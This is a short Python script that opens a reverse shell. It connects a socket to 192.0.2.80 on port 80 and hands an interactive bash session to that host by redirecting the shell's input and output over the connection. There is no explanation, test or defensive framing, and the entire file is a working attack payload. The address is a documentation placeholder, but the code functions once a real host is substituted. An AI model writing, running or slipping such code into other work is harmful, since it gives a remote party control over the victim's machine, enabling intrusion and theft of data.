import socket
import subprocess

link = socket.socket()
link.connect(("192.0.2.80", 80))
subprocess.call(["/bin/bash", "-i"], stdin=link, stdout=link, stderr=link)
